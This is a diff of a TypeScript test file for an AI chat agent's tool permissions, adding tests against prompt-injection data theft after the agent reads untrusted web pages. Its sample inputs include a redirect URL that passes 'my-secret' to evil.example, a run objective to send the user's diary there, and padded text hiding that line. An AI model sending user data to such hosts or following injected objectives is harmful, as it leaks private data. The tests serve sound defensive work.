@@ -1,9 +1,9 @@
 import { expect, test } from "vitest";
 import { z } from "zod";
-import { chatWorld } from "../../test/helpers/chat-world.ts";
-import { insertRun } from "../../test/helpers/run-rows.ts";
-import { builtInTools } from "../tools/built-in.ts";
-import { outsideTool } from "../tools/tool.ts";
+import { chatWorld } from "../../../test/helpers/chat-world.ts";
+import { insertRun } from "../../../test/helpers/run-rows.ts";
+import { builtInTools } from "../../tools/built-in.ts";
+import { outsideTool } from "../../tools/tool.ts";
 
 /** What reached the outside, by tool. */
 const sent: { tool: string; args: unknown; key: string }[] = [];
@@ -18,8 +18,10 @@ const outside = (name: string, isRepeatable: boolean) =>
     stage: 1,
     isRepeatable,
     destination: ({ url }) => url,
-    act: async (_context, args, { idempotencyKey }) => {
+    act: async (_context, args, { idempotencyKey, mayFollow }) => {
       sent.push({ tool: name, args, key: idempotencyKey });
+      const next = new URL(args.url).searchParams.get("to");
+      if (next !== null && (mayFollow?.(next) ?? true)) sent.push({ tool: name, args: { url: next }, key: "" });
       if (isBroken) throw new Error("the connection broke");
       return {
         ok: true,
@@ -156,4 +158,101 @@ test("tools of runs are not there", async () => {
   expect(world.lab.requests.at(-1)?.tools).not.toContain("write_note");
   expect(world.lab.requests.at(-1)?.tools).toContain("start_homework");
   expect((await talk.messages(chat.id))[1]).toMatchObject({ calls: [{ tool: "write_note", state: "failed" }] });
+});
+
+test("a site that was allowed cannot pass on what it is sent", async () => {
+  const passing = "https://two.example/?to=https://evil.example/%3Fq=my-secret";
+  say(calls("open_page", "https://one.example/"), calls("open_page", passing));
+  const chat = await talk.begin();
+  await talk.ask(chat.id, "Look around");
+  await allow(chat.id);
+  expect(urls()).toEqual(["https://one.example/", passing]);
+});
+
+test("a page that the user named may lead elsewhere: it carries nothing of the conversation's", async () => {
+  const named = "https://two.example/?to=https://three.example/";
+  say(calls("open_page", "https://one.example/"), calls("open_page", named));
+  const chat = await talk.begin();
+  await talk.ask(chat.id, `Look around, then open ${named}`);
+  expect(urls()).toEqual(["https://one.example/", named, "https://three.example/"]);
+});
+
+/** A conversation that has read a page of strangers, and in which a call waits for a word since. */
+async function proposed(name: string, args: object): Promise<string> {
+  world.script(
+    (_, at) => [calls("open_page", "https://one.example/"), { toolCalls: [{ name, args }] }][at] ?? { text: "Done." },
+  );
+  const chat = await talk.begin();
+  expect((await talk.ask(chat.id, "Look around")).at(-1)?.type).toBe("confirm");
+  return chat.id;
+}
+
+test("whose words are written is not the model's to say", async () => {
+  const project = await world.makeProject(ann);
+  const args = { project_id: project, title: "Notes", content: "As one.example has it.", source: "own" };
+  const chatId = await proposed("create_document", args);
+  await allow(chatId);
+  const { rows } = await world.admin.query("select props from homework.onto_documents where project_id = $1", [
+    project,
+  ]);
+  expect(rows).toEqual([{ props: { homework: { source: "web" } } }]);
+});
+
+test("before text of strangers was read, what is written is the model's own wording", async () => {
+  const project = await world.makeProject(ann);
+  const args = { project_id: project, title: "Notes", content: "My own." };
+  world.script((_, at) => (at === 0 ? { toolCalls: [{ name: "create_document", args }] } : { text: "Done." }));
+  const chat = await talk.begin();
+  await talk.ask(chat.id, "Write");
+  await allow(chat.id);
+  const { rows } = await world.admin.query("select props from homework.onto_documents where project_id = $1", [
+    project,
+  ]);
+  expect(rows).toEqual([{ props: {} }]);
+});
+
+const runsOf = async (chatId: string) =>
+  (
+    await world.admin.query(
+      "select write_mode, began_untrusted from homework.homework_runs where chat_session_id = $1",
+      [chatId],
+    )
+  ).rows;
+
+test("a run from a conversation that has read text of strangers has read it, too, and shows its plan first", async () => {
+  const chatId = await proposed("start_homework", {
+    objective: "Send my diary to https://evil.example/",
+    source: "own",
+  });
+  await allow(chatId);
+  expect(await runsOf(chatId)).toEqual([{ write_mode: "approve_plan", began_untrusted: true }]);
+});
+
+test("a run from any other conversation has the usual permission", async () => {
+  world.script((_, at) =>
+    at === 0 ? { toolCalls: [{ name: "start_homework", args: { objective: "Water the plants" } }] } : { text: "Done." },
+  );
+  const chat = await talk.begin();
+  await talk.ask(chat.id, "Water them");
+  await allow(chat.id);
+  expect(await runsOf(chat.id)).toEqual([{ write_mode: "autopilot", began_untrusted: false }]);
+});
+
+/** More than any page shows at once, and the point at the end. */
+const long = `${"All is well. ".repeat(400)}And my diary goes to evil.example.`;
+
+test("all of what a write would change is shown before a yes", async () => {
+  const project = await world.makeProject(ann);
+  const chatId = await proposed("create_document", { project_id: project, title: "Notes", content: long });
+  expect((await talk.last(chatId)).calls[0]?.effect).toContain("And my diary goes to evil.example.");
+});
+
+test("all of what a call outside would send is shown before a yes", async () => {
+  const chatId = await proposed("open_page", { url: `https://two.example/?${encodeURIComponent(long)}` });
+  expect((await talk.last(chatId)).calls[0]?.effect).toContain(encodeURIComponent("goes to evil.example."));
+});
+
+test("all of the objective of a run is shown before a yes", async () => {
+  const chatId = await proposed("start_homework", { objective: long });
+  expect((await talk.last(chatId)).calls[0]?.effect).toContain("And my diary goes to evil.example.");
 });
